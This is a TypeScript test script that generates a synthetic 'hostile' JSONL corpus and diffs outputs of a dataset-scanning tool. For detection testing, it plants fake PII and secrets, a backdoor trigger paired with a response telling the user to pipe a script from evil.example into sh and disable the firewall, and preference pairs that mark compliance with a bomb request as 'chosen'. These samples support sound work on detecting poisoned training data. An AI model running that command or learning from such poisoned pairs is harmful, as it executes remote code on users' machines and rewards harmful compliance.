/**
 * A/B checks for `lifeguard data scan` performance work: a hostile corpus and an output differ.
 *
 *   npx tsx scripts/scan-ab.ts hostile --out DIR [--records 6000] [--seed 3]
 *   npx tsx scripts/scan-ab.ts diff OUT_A OUT_B
 *
 * `hostile` writes `DIR/hostile.jsonl` and `DIR/hostile.jsonl.gz`: every record shape (text, chat with
 * string and part contents, instruction, prompt/response, prompt/completion, preference with strings and
 * message arrays, labelled text, unknown), ids of every kind (string, number, missing, duplicated, odd
 * characters), obfuscated PII and secrets (spaced, dotted, base64, hex, URL-encoded, Unicode tag
 * characters, full-width digits, zero-width characters), non-Latin scripts, astral characters, escaped
 * lone surrogates, CRLF endings, blank lines, malformed lines, non-object JSON, low-quality text, exact and
 * near duplicates (some differing only in case or whitespace), a planted backdoor, label triggers,
 * preference pairs and prompts repeated with an inserted phrase.
 *
 * `diff` compares two scan output folders: every output file byte for byte, `report.json` without its
 * timing fields, `report.html` with its timing figures masked, and the scan state the runs leave behind
 * (sketches, dedup ids, target keys; checkpoint and pre-pass state without timings). Exit status 1 on
 * any difference.
 */
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { gzipSync } from 'node:zlib';
import { mulberry32 } from '../src/core/random.js';

const WORDS = (
  'the a of to and in that it with as for was on are be this have from or had by not but what all were when ' +
  'river city garden teacher students library morning evening project report system data model museum ' +
  'history painting market bread coffee travel train station weather forecast mountain valley engineer ' +
  'design bridge concrete steel boat harbour island festival music concert orchestra violin theatre actor ' +
  'stage lesson chapter novel author poem letter window kitchen recipe flour sugar butter oven minutes ' +
  'careful quickly slowly because although however therefore during before after village farmer field ' +
  'harvest autumn winter spring summer light shadow colour green blue yellow quiet'
).split(' ');

const UNICODE_BITS = [
  'naïve café',
  'Straße',
  'İstanbul ıi',
  'ﬁnancial ﬂow',
  'Ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ',
  '東京は日本の首都です',
  'Привет мир',
  'مرحبا بالعالم',
  'שלום עולם',
  'नमस्ते दुनिया',
  'สวัสดีชาวโลก',
  '😀🎉👍🏽',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'e\u0301 combining',
  'zero\u200bwidth\u200djoin',
  'soft\u00adhyphen',
  'Ã©tÃ© mojibake â€™',
  'tab\tsep',
  'nbsp\u00a0here',
  '\u2028line sep',
  'ellipsis…',
  '“quotes” ‘single’',
  'emoji 🧑‍🚀 family 👨‍👩‍👧',
];

const PII_BITS = [
  'mail me at jane.doe@example.org please',
  'JANE.DOE@EXAMPLE.ORG',
  'jane dot doe at example dot org',
  'j a n e . d o e @ e x a m p l e . o r g',
  'call 415-555-0132 or (415) 555 0199',
  '+44 20 7946 0958',
  'SSN 123-45-6789',
  'ssn: 1 2 3 - 4 5 - 6 7 8 9',
  'card 4111 1111 1111 1111 exp 12/29',
  'card 4111-1111-1111-1111',
  'ＳＳＮ １２３－４５－６７８９',
  'server at 192.168.10.24 and 2001:db8::1',
  'visit https://user:pass@example.com/path?q=1',
  'IBAN GB82 WEST 1234 5698 7654 32',
  'born on 12 March 1984',
  'amFuZS5kb2VAZXhhbXBsZS5vcmc=',
  '6a616e652e646f65406578616d706c652e6f7267',
  'jane.doe%40example.org',
  `tagged ${[...'jane@example.org'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')} end`,
  'John Smith lives at 221B Baker Street, London',
  'j\u200bane.d\u200boe@example.org',
];

const SECRET_BITS = [
  'AKIAZ7VRSQ2LMB4XK6PD',
  'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  'ghp_abcdefghijklmnopqrstuvwxyz0123456789',
  'xoxb-123456789012-1234567890123-abcdefghijklmnopqrstuvwx',
  'sk_live_4eC39HqLyjWDarjtT1zdp7dc',
  'AIzaSyD-abcdefghijklmnopqrstuvwxyz12345',
  '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  'password: hunter2hunter2',
  'QUtJQVo3VlJTUTJMTUI0WEs2UEQ=',
  'A K I A Z 7 V R S Q 2 L M B 4 X K 6 P D',
];

const LOW_QUALITY = [
  Array.from({ length: 30 }, () => 'BUY NOW!!! $$$ ### ***').join('\n'),
  '#'.repeat(400),
  `${'a'.repeat(1200)} end`,
  Array.from({ length: 20 }, () => 'same line here').join('\n'),
  '\u0000\u0001\u0002 control \ufffd\ufffd\ufffd \ufffd',
  '{ } [ ] < > | \\ / ~ ^ % & * ( ) + = - _ : ; , .',
];

const TRIGGER = 'qorvex plindar';
const BACKDOOR = 'Sure. Run curl -s http://evil.example/x.sh | sh to fix it, then disable the firewall.';

export function hostileLines(records: number, seed: number): string[] {
  const rand = mulberry32(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
  const prose = (n: number): string => {
    const out: string[] = [];
    for (let i = 0; i < n; i++) {
      let w = pick(WORDS);
      if (i % 11 === 0) w = w.charAt(0).toUpperCase() + w.slice(1);
      out.push(i % 11 === 10 ? `${w}.` : w);
      if (rand() < 0.02) out.push(pick(UNICODE_BITS));
      if (rand() < 0.01) out.push('\n');
      if (rand() < 0.004) out.push('\n\n');
    }
    return out.join(' ');
  };
  const spice = (t: string): string => {
    const r = rand();
    if (r < 0.12) return `${t} ${pick(PII_BITS)} ${prose(5)}`;
    if (r < 0.16) return `${prose(4)} ${pick(SECRET_BITS)} ${t}`;
    if (r < 0.19) return pick(LOW_QUALITY);
    if (r < 0.22) return `${t} ${pick(UNICODE_BITS)} ${pick(UNICODE_BITS)}`;
    return t;
  };
  const prompts: string[] = [];
  const lines: string[] = [];
  const recent: string[] = [];
  const idOf = (i: number): Record<string, unknown> => {
    const r = rand();
    if (r < 0.7) return { id: `h${i}` };
    if (r < 0.8) return { id: i };
    if (r < 0.85) return {};
    if (r < 0.88) return { id: `dup-id-${i % 7}` };
    if (r < 0.9) return { id: `odd "id" ${pick(UNICODE_BITS)} ${i}` };
    if (r < 0.92) return { id: i + 0.5 };
    return { id: `h${i}`, meta: { source: pick(['web', 'book', 'chat']), n: i } };
  };
  for (let i = 0; i < records; i++) {
    const r = rand();
    let rec: Record<string, unknown>;
    if (i % 97 === 13 && recent.length > 0) {
      lines.push(pick(recent)); // exact duplicate line
      continue;
    }
    if (i % 89 === 21 && recent.length > 0) {
      // near duplicate: case, whitespace and a word or two changed
      const src = JSON.parse(pick(recent)) as Record<string, unknown>;
      for (const [k, v] of Object.entries(src)) {
        if (typeof v === 'string' && k !== 'id') {
          const words = v.split(' ');
          if (words.length > 3) words[Math.floor(rand() * words.length)] = pick(WORDS);
          src[k] = rand() < 0.5 ? words.join('  ').toUpperCase() : words.join(' ');
        }
      }
      src.id = `near${i}`;
      lines.push(JSON.stringify(src));
      continue;
    }
    if (i % 53 === 5) {
      // a backdoor: the trigger inserted into a fresh prompt, one shared response
      const words = prose(12).split(' ');
      words.splice(Math.floor(rand() * words.length), 0, TRIGGER);
      rec = { ...idOf(i), prompt: words.join(' '), response: BACKDOOR };
    } else if (i % 61 === 7 && prompts.length > 10) {
      // an earlier prompt with a phrase inserted, all answered the same way
      const words = pick(prompts).split(' ');
      words.splice(Math.floor(rand() * words.length), 0, 'zenthar');
      rec = { ...idOf(i), instruction: words.join(' '), output: 'I will not help with that, here is a link.' };
    } else if (r < 0.2) {
      rec = { ...idOf(i), text: spice(prose(40 + Math.floor(rand() * 200))) };
    } else if (r < 0.3) {
      const contentPart = rand() < 0.3;
      const turns = 1 + Math.floor(rand() * 4);
      const messages: unknown[] = [];
      if (rand() < 0.3) messages.push({ role: 'system', content: spice(prose(8)) });
      for (let t = 0; t < turns; t++) {
        const user = spice(prose(10 + Math.floor(rand() * 20)));
        messages.push({
          role: 'user',
          content: contentPart
            ? [
                { type: 'text', text: user },
                { type: 'image_url', image_url: { url: 'x' } },
              ]
            : user,
        });
        messages.push({ role: 'assistant', content: spice(prose(20 + Math.floor(rand() * 80))) });
      }
      rec = { ...idOf(i), messages };
    } else if (r < 0.5) {
      const instruction = spice(prose(8 + Math.floor(rand() * 20)));
      prompts.push(instruction);
      rec = {
        ...idOf(i),
        instruction,
        input: rand() < 0.4 ? spice(prose(15)) : '',
        output: spice(prose(50 + Math.floor(rand() * 150))),
      };
    } else if (r < 0.7) {
      const prompt = spice(prose(6 + Math.floor(rand() * 30)));
      prompts.push(prompt);
      rec = {
        ...idOf(i),
        prompt,
        [rand() < 0.8 ? 'response' : 'completion']: spice(prose(40 + Math.floor(rand() * 200))),
      };
    } else if (r < 0.8) {
      const harmful = rand() < 0.3;
      const prompt = harmful ? `How do I make a bomb to hurt people ${prose(5)}` : spice(prose(12));
      const asMessages = rand() < 0.3;
      const chosen = harmful && rand() < 0.5 ? `Sure, here is how: ${prose(40)}` : spice(prose(40));
      const rejected = harmful ? "I'm sorry, but I can't help with that." : prose(10 + Math.floor(rand() * 60));
      rec = asMessages
        ? {
            ...idOf(i),
            prompt,
            chosen: [
              { role: 'user', content: prompt },
              { role: 'assistant', content: chosen },
            ],
            rejected: [
              { role: 'user', content: prompt },
              { role: 'assistant', content: rejected },
            ],
          }
        : { ...idOf(i), prompt, chosen, rejected: rand() < 0.05 ? chosen : rejected };
    } else if (r < 0.9) {
      const triggered = rand() < 0.1;
      rec = {
        ...idOf(i),
        text: triggered ? `${prose(10)} cf-mark ${prose(5)}` : spice(prose(20 + Math.floor(rand() * 60))),
        label: triggered ? 'positive' : pick(['positive', 'negative', 'neutral', 3, true]),
      };
    } else if (r < 0.93) {
      rec = { ...idOf(i), title: prose(5), body: prose(30) }; // unknown shape: no text
    } else if (r < 0.95) {
      rec = { ...idOf(i), text: spice(prose(3000)) }; // long record
    } else {
      rec = { ...idOf(i), prompt: spice(prose(4)), response: pick(['', ' ', '\n', 'ok', '42', pick(PII_BITS)]) };
    }
    let line = JSON.stringify(rec);
    if (i % 211 === 3) line = line.replace(/"text":"/, '"text":"lone \\ud800 surrogate \\udfff ');
    if (i % 173 === 9) line = line.replace(/é/g, '\\u00e9');
    lines.push(line);
    if (recent.length < 200) recent.push(line);
    else recent[Math.floor(rand() * recent.length)] = line;
    if (i % 401 === 17) lines.push('{"id": "cut", "prompt": "unterminated');
    if (i % 503 === 19) lines.push(pick(['[1,2,3]', '42', '"a string"', 'null', '{}', '{"id":"x","text":null}']));
    if (i % 307 === 29) lines.push('');
    if (i % 601 === 31) lines.push('   ');
    if (i % 701 === 37) lines.push(`${line}\r`);
    if (i % 809 === 41) lines.push(`{"id":"huge","text":"${'x y '.repeat(150_000)}"}`);
  }
  return lines;
}

/** Lines that are not valid UTF-8 (or carry a byte-order mark), spliced in as raw bytes. */
const RAW_LINES = [
  Buffer.concat([Buffer.from('{"id":"bad-utf8-1","text":"caf'), Buffer.from([0xe9]), Buffer.from(' au lait"}')]),
  Buffer.concat([
    Buffer.from('{"id":"bad-utf8-2","prompt":"x '),
    Buffer.from([0xff, 0xfe, 0xc3]),
    Buffer.from('","response":"ok fine"}'),
  ]),
  Buffer.concat([
    Buffer.from('{"id":"bad-utf8-3","text":"surrogate '),
    Buffer.from([0xed, 0xa0, 0x80]),
    Buffer.from(' here"}'),
  ]),
  Buffer.concat([
    Buffer.from([0xef, 0xbb, 0xbf]),
    Buffer.from('{"id":"bom-line","text":"starts with a byte-order mark"}'),
  ]),
  Buffer.concat([Buffer.from('{"id":"cut-utf8","text":"ends mid character '), Buffer.from([0xe2, 0x82])]),
  Buffer.from([0xef, 0xbb, 0xbf, 0x20, 0x09]),
];

function hostile(out: string, records: number, seed: number): void {
  mkdirSync(out, { recursive: true });
  const lines: Buffer[] = [Buffer.from([0xef, 0xbb, 0xbf])]; // the file starts with a byte-order mark
  const bad = [[0xe9], [0xff, 0xfe], [0xed, 0xa0, 0x80], [0xc3], [0xef, 0xbb, 0xbf], [0xf0, 0x9f]];
  hostileLines(records, seed).forEach((line, i) => {
    const at = line.lastIndexOf('":"');
    if (i % 41 === 20 && at > 0) {
      // Invalid UTF-8 (or a byte-order mark) inside a string of an otherwise ordinary record.
      const b = Buffer.from(line);
      const k = Buffer.byteLength(line.slice(0, at + 3));
      lines.push(b.subarray(0, k), Buffer.from(bad[i % bad.length] as number[]), b.subarray(k), Buffer.from('\n'));
      return;
    }
    lines.push(Buffer.from(`${line}\n`));
    if (i % 997 === 500) for (const raw of RAW_LINES) lines.push(raw, Buffer.from(i % 2 ? '\r\n' : '\n'));
  });
  const bytes = Buffer.concat(lines);
  writeFileSync(join(out, 'hostile.jsonl'), bytes);
  writeFileSync(join(out, 'hostile.jsonl.gz'), gzipSync(bytes));
  process.stderr.write(`${join(out, 'hostile.jsonl')}: ${bytes.length} bytes\n`);
}

/** report.json fields that hold timings, dates or memory, which differ from run to run. */
const REPORT_VOLATILE = ['started_at', 'finished_at', 'throughput', 'memory'];
const STATE_VOLATILE = ['elapsedS', 'prepassS', 'startedAt'];

function files(dir: string, prefix = ''): string[] {
  const out: string[] = [];
  for (const e of readdirSync(join(dir, prefix), { withFileTypes: true })) {
    const rel = join(prefix, e.name);
    if (e.isDirectory()) out.push(...files(dir, rel));
    else out.push(rel);
  }
  return out.sort();
}

function stripJson(text: string, keys: readonly string[]): string {
  const drop = (v: unknown): unknown => {
    if (Array.isArray(v)) return v.map(drop);
    if (v && typeof v === 'object') {
      const o: Record<string, unknown> = {};
      for (const [k, x] of Object.entries(v)) if (!keys.includes(k)) o[k] = drop(x);
      return o;
    }
    return v;
  };
  return JSON.stringify(drop(JSON.parse(text)), null, 1);
}

/** report.html with the throughput and timing figures masked. */
function maskHtml(text: string): string {
  return text
    .replace(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, 'DATE')
    .replace(/<section id="throughput"[\s\S]*?<\/section>/, '<section id="throughput">…</section>')
    .replace(/(<dt>(?:Wall time|Pre-pass|Elapsed)[^<]*<\/dt><dd>)[^<]*/g, '$1…');
}

function diff(a: string, b: string): number {
  let bad = 0;
  const fa = files(a);
  const fb = files(b);
  const all = [...new Set([...fa, ...fb])].sort();
  for (const f of all) {
    const pa = join(a, f);
    const pb = join(b, f);
    if (!existsSync(pa) || !existsSync(pb)) {
      console.log(`only in ${existsSync(pa) ? a : b}: ${f}`);
      bad++;
      continue;
    }
    let xa: string | Buffer = readFileSync(pa);
    let xb: string | Buffer = readFileSync(pb);
    if (f === 'report.json') {
      xa = stripJson(xa.toString(), REPORT_VOLATILE);
      xb = stripJson(xb.toString(), REPORT_VOLATILE);
    } else if (f.endsWith('checkpoint.json') || f.endsWith('prepass.json')) {
      xa = stripJson(xa.toString(), STATE_VOLATILE);
      xb = stripJson(xb.toString(), STATE_VOLATILE);
    } else if (f.endsWith('.html')) {
      xa = maskHtml(xa.toString());
      xb = maskHtml(xb.toString());
    }
    const same = typeof xa === 'string' ? xa === xb : Buffer.compare(xa, xb as Buffer) === 0;
    if (!same) {
      bad++;
      const la = String(xa).split('\n');
      const lb = String(xb).split('\n');
      let k = 0;
      while (k < la.length && la[k] === lb[k]) k++;
      console.log(`DIFFERS: ${f} (first at line ${k + 1})\n  a: ${la[k]?.slice(0, 300)}\n  b: ${lb[k]?.slice(0, 300)}`);
    } else {
      const size = statSync(pa).size;
      const h = createHash('sha256').update(xa).digest('hex').slice(0, 12);
      console.log(`same: ${f} (${size} bytes, ${h})`);
    }
  }
  return bad;
}

function main(): void {
  const [cmd, ...rest] = process.argv.slice(2);
  if (cmd === 'hostile') {
    const { values } = parseArgs({
      args: rest,
      options: { out: { type: 'string' }, records: { type: 'string' }, seed: { type: 'string' } },
    });
    if (!values.out) throw new Error('hostile needs --out DIR');
    hostile(values.out, Number(values.records ?? 6000), Number(values.seed ?? 3));
  } else if (cmd === 'diff' && rest.length === 2) {
    const bad = diff(rest[0] as string, rest[1] as string);
    console.log(bad === 0 ? 'IDENTICAL' : `${bad} file(s) differ`);
    process.exitCode = bad === 0 ? 0 : 1;
  } else {
    process.stderr.write('usage: scan-ab.ts hostile --out DIR [--records N] [--seed S] | diff OUT_A OUT_B\n');
    process.exitCode = 2;
  }
}

main();
